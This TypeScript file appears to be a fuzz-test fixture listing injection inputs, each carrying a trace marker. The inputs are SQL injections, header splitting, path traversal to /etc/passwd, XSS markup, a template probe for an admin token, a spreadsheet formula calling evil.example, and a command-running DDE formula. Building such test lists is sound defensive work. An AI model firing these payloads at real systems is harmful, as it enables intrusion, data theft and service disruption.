/** A text that does something where it is not taken for a text. */
export interface Injection {
  readonly kind: string;
  readonly text: string;
}

/** Stands in every one of them, so that what came of it can be looked for. */
export const MARK = 'beaconinjected';

export const INJECTIONS: readonly Injection[] = [
  { kind: 'SQL', text: `'; create table ${MARK}(a int); --` },
  { kind: 'SQL', text: `1 or pg_sleep(6) is null -- ${MARK}` },
  { kind: 'SQL', text: `${MARK}' union select version()::text, null --` },
  { kind: 'SQL', text: `$$; select pg_terminate_backend(pid) from pg_stat_activity; -- ${MARK}` },
  { kind: 'NUL', text: `${MARK}\u0000b` },
  { kind: 'a header', text: `${MARK}\r\nx-${MARK}: 1\r\n\r\n<script>` },
  { kind: 'a line of the log', text: `${MARK}\n{"level":"error","event":"${MARK}"}` },
  { kind: 'a path', text: `../../../../etc/passwd?${MARK}` },
  { kind: 'a path', text: `..%2f..%2f..%2fetc%2fpasswd%00${MARK}` },
  { kind: 'a path', text: `..\\..\\windows\\win.ini ${MARK}` },
  { kind: 'a formula', text: `=HYPERLINK("http://evil.example/${MARK}","x")` },
  { kind: 'a formula', text: `@SUM(1+1)*cmd|' /C calc'!A0 ${MARK}` },
  { kind: 'markup', text: `"><script>${MARK}()</script><img src=x onerror=${MARK}()>` },
  { kind: 'a template', text: '${process.env.BEACON_ADMIN_TOKEN}{{7*7}}#{7*7}' + MARK },
  { kind: 'a subject', text: `beacon.tasks.>.${MARK}.*` },
  { kind: 'a prototype', text: '__proto__' },
  { kind: 'a prototype', text: 'constructor' },
  { kind: 'Unicode', text: `\u202e${MARK}\u202c\u2066\u200b\ufeff` },
  { kind: 'Unicode', text: `\ud800${MARK}` },
  { kind: 'Unicode', text: `ＢＥＡＣＯＮ＇；－－ ${MARK} İıſ` },
  { kind: 'a pattern', text: `${'a'.repeat(40)}!(a+)+$${MARK}` },
  { kind: 'length', text: MARK.repeat(3_000) },
];
